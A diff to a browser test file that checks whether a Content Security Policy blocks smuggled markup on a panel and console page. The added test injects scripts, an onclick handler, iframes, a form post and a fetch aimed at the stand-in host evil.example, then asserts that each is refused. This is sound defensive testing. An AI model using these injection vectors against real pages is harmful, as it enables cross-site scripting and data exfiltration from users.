@@ -73,15 +73,49 @@ def test_markup_and_bidi_overrides_are_shown_as_text_everywhere(
     his.look("ticket")
 
 
-def test_an_inline_script_does_not_run(stack: LocalStack, open_window: OpenWindow) -> None:
+# What a page would try that somebody smuggled markup into, and the directive that forbids it.
+_TRIES = """async () => {
+  const seen = new Set();
+  document.addEventListener("securitypolicyviolation", (event) => seen.add(event.effectiveDirective));
+  const add = (tag, values, into = document.body) => into.append(Object.assign(document.createElement(tag), values));
+  add("script", {textContent: "window.wasRun = true"});
+  add("script", {src: "https://evil.example/a.js"});
+  add("img", {src: "https://evil.example/a.png"});
+  add("iframe", {src: "https://evil.example/"});
+  add("object", {data: "https://evil.example/a.swf"});
+  add("link", {rel: "stylesheet", href: "https://evil.example/a.css"});
+  add("base", {href: "https://evil.example/"}, document.head);
+  document.body.insertAdjacentHTML("beforeend", "<b id='tried' onclick='window.wasRun = true'></b>");
+  document.getElementById("tried").click();
+  const form = Object.assign(document.createElement("form"), {action: "https://evil.example/", method: "post"});
+  document.body.append(form);
+  form.submit();
+  try { new Worker("data:text/javascript,"); } catch {}
+  await fetch("https://evil.example/").catch(() => {});
+  await new Promise((done) => setTimeout(done, 200));
+  return {seen: [...seen].sort(), wasRun: window.wasRun, base: document.baseURI};
+}"""
+_FORBIDDEN = {
+    "connect-src",
+    "form-action",
+    "frame-src",
+    "img-src",
+    "object-src",
+    "script-src-attr",
+    "script-src-elem",
+    "style-src-elem",
+    "worker-src",
+}
+
+
+def test_smuggled_markup_runs_loads_and_sends_nothing(stack: LocalStack, open_window: OpenWindow) -> None:
     for url in (stack.file.panel_url, stack.file.console_url):
         window = open_window(url)
-        window.page.evaluate("""() => {
-          const script = document.createElement("script");
-          script.textContent = "window.wasRun = true";
-          document.body.append(script);
-        }""")
-        assert window.page.evaluate("() => window.wasRun") is None
-        refused = [wrong for wrong in window.wrongs if "Content Security Policy" in wrong]
-        assert len(refused) == 1
+
+        tried = window.page.evaluate(_TRIES)
+
+        assert tried["wasRun"] is None
+        assert set(tried["seen"]) >= _FORBIDDEN
+        assert tried["base"].startswith(url)
+        assert any("Content Security Policy" in wrong for wrong in window.wrongs)
         window.wrongs.clear()
